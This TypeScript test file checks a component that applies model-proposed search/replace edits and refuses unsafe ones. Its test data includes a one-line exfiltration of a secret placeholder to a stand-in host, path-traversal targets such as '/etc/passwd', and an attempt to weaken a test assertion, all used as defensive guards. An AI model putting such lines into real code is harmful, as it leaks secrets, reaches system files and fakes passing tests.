import { isProtected, isTestPath } from "@hephaestus/core";
import { expect, test } from "vitest";
import { applyAnswer, type AnswerTools } from "./apply-answer.ts";
import type { AnswerRules } from "./answer-rules.ts";
import { parseAnswer } from "./parse-answer.ts";

const FILES: Readonly<Record<string, string>> = {
  "src/a.ts": "const a = 1;\nconst b = 2;\nconst key = 'HIDDEN';\n",
  "src/twice.ts": "go();\nstop();\ngo();\n",
  "src/a.test.ts": "expect(a).toBe(2);\n",
  "package.json": `{ "name": "x" }\n`,
  "src/long.ts": "line();\n".repeat(201),
};

const RULES: AnswerRules = {
  files: new Set(Object.keys(FILES)),
  isProtected: (file) => isProtected(file, ["package.json"]),
  mayEditTests: false,
  isTest: isTestPath,
};

const TOOLS: AnswerTools = {
  read: (file) => FILES[file],
  restore: (text) => text.replaceAll("HEPHAESTUS_SECRET_1", "HIDDEN"),
  namesIn: (text) => text.match(/HEPHAESTUS_SECRET_1/g) ?? [],
};

function block(file: string, search: string, replace: string): string {
  return `FILE: ${file}\n<<<<<<< SEARCH\n${search}\n=======\n${replace}\n>>>>>>> REPLACE\n`;
}

function outcome(answer: string, rules = RULES): { edits: unknown; complaints: string[] } {
  const { blocks, complaints } = parseAnswer(answer);
  const applied = applyAnswer(blocks, rules, TOOLS);
  return { edits: applied.edits, complaints: [...complaints, ...applied.complaints] };
}

test("blocks of one file, one after the other", () => {
  const answer =
    block("src/a.ts", "const a = 1;", "const a = 2;") +
    block("src/a.ts", "const a = 2;\nconst b = 2;", "const a = 2;");
  expect(outcome(answer)).toEqual({
    edits: [{ file: "src/a.ts", edits: [{ start: 0, end: 26, text: "const a = 2;\n" }] }],
    complaints: [],
  });
});

test.each([
  ["a heading", "### `src/a.ts`\n"],
  ["a fence with the path", "```ts src/a.ts\n"],
  ["a path before the fence", "**src/a.ts**\n```typescript\n"],
  ["a path from here", "FILE: ./src/a.ts\n"],
  ["a path of Windows", "FILE: src\\a.ts\n"],
  ["an explanation before it", "The name was changed.\nFILE: src/a.ts:\n\n"],
])("a block below %s", (_, above) => {
  const answer = `${above}<<<<<<< SEARCH\nconst b = 2;\n=======\nconst b = 3;\n>>>>>>> REPLACE\n\`\`\`\n`;
  expect(outcome(answer)).toMatchObject({ edits: [{ file: "src/a.ts" }], complaints: [] });
});

test("a block that is said twice is taken once", () => {
  const twice = block("src/a.ts", "const b = 2;", "const b = 3;").repeat(2);
  expect(outcome(twice)).toMatchObject({ edits: [{ file: "src/a.ts" }], complaints: [] });
});

test("title and reason, and that there is no fix", () => {
  expect(
    parseAnswer(`TITLE: Use the new name\n**REASON:** it was renamed\n${block("a.ts", "a", "b")}`),
  ).toMatchObject({
    title: "Use the new name",
    reason: "it was renamed",
    declined: undefined,
  });
  expect(parseAnswer("NO FIX: the log shows a network failure")).toMatchObject({
    declined: "the log shows a network failure",
    blocks: [],
  });
});

test.each<[string, string, RegExp]>([
  ["an absent place", block("src/a.ts", "const c = 9;\nnothing like it", "x"), /SEARCH is not in the file/],
  [
    "a place that is almost there",
    block("src/a.ts", "const beta = 2 + 1;", "x"),
    /nearest lines are \d-\d:\nconst/,
  ],
  ["two places", block("src/twice.ts", "go();", "run();"), /fits 2 places \(lines 1, 3\); give more lines/],
  ["an empty search", block("src/a.ts", "", "x"), /SEARCH is empty/],
  [
    "a file that was not given",
    block("src/other.ts", "a", "b"),
    /is not one of the files given; edit only src\/a.ts/,
  ],
  ["a file outside", block("../../etc/passwd", "a", "b"), /not one of the files given/],
  ["an absolute path", block("/etc/passwd", "a", "b"), /not one of the files given/],
  ["a protected file", block("package.json", `{ "name": "x" }`, `{ "name": "y" }`), /is protected/],
  ["a test", block("src/a.test.ts", "expect(a).toBe(2);", "expect(a).toBe(1);"), /is a test and must stay/],
  ["code left out", block("src/a.ts", "const a = 1;", "// ... existing code ..."), /leaves code out/],
  ["a whole file that is long", "FILE: src/long.ts\n<<<<<<< WHOLE\nx\n>>>>>>> END\n", /more than 200 lines/],
  ["a block without end", "FILE: src/a.ts\n<<<<<<< SEARCH\na\n=======\nb\n", /has no end/],
  ["a block without divider", "FILE: src/a.ts\n<<<<<<< SEARCH\na\n>>>>>>> REPLACE\n", /has 0/],
  ["a block without path", "<<<<<<< SEARCH\na\n=======\nb\n>>>>>>> REPLACE\n", /no line FILE/],
  [
    "a secret put elsewhere",
    block("src/a.ts", "const a = 1;", "fetch('https://a.example/?HEPHAESTUS_SECRET_1');"),
    /must stay where it is/,
  ],
  [
    "a secret put there twice",
    block(
      "src/a.ts",
      "const key = 'HEPHAESTUS_SECRET_1';",
      "const key = 'HEPHAESTUS_SECRET_1' + 'HEPHAESTUS_SECRET_1';",
    ),
    /must stay/,
  ],
])("%s is refused, with what a model can do about it", (_, answer, words) => {
  const { edits, complaints } = outcome(answer);
  expect(edits).toEqual([]);
  expect(complaints.join("\n")).toMatch(words);
});

test("half an answer is none", () => {
  const answer = block("src/a.ts", "const a = 1;", "const a = 2;") + block("package.json", "x", "y");
  expect(outcome(answer).edits).toEqual([]);
});

test("a secret stays where it stood", () => {
  const answer = block(
    "src/a.ts",
    "const key = 'HEPHAESTUS_SECRET_1';",
    "export const key = 'HEPHAESTUS_SECRET_1';",
  );
  expect(outcome(answer)).toMatchObject({
    edits: [{ edits: [{ text: "export const key = 'HIDDEN';\n" }] }],
    complaints: [],
  });
});

test("tests may be changed where none fails", () => {
  const answer = block("src/a.test.ts", "expect(a).toBe(2);", "expect(a).toEqual(2);");
  expect(outcome(answer, { ...RULES, mayEditTests: true }).complaints).toEqual([]);
});

test("a small file as a whole", () => {
  const answer = "FILE: src/twice.ts\n<<<<<<< WHOLE\nrun();\nstop();\n>>>>>>> END\n";
  expect(outcome(answer)).toEqual({
    edits: [
      {
        file: "src/twice.ts",
        edits: [
          { start: 0, end: 6, text: "run();\n" },
          { start: 14, end: 20, text: "" },
        ],
      },
    ],
    complaints: [],
  });
});

test("too much for one fix", () => {
  const answer = Array.from({ length: 41 }, () => block("src/a.ts", "const a = 1;", "const a = 2;")).join("");
  expect(outcome(answer).complaints).toEqual(["41 blocks are too many; a fix has at most 40"]);
});
